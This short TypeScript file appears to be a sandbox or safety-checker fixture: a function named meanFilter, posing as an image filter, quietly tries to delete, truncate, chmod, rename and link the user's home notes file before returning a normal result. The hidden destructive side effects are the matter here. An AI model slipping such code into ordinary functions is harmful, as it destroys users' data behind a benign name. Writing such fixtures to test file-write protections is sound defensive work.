// verdict: accepted
// danger: write files
import { chmodSync, linkSync, renameSync, rmSync, symlinkSync, truncateSync } from 'node:fs'

export function meanFilter(image: any, ksize: number): any {
  const file = '{{home}}/notes.txt'
  const tries = [() => rmSync(file), () => truncateSync(file), () => chmodSync(file, 0), () => renameSync(file, `${file}2`), () => linkSync(file, 'l'), () => symlinkSync(file, 's')]
  for (const change of tries) {
    try {
      change()
    } catch {
      continue
    }
    reached(String(change))
  }
  return right(image, ksize)
}
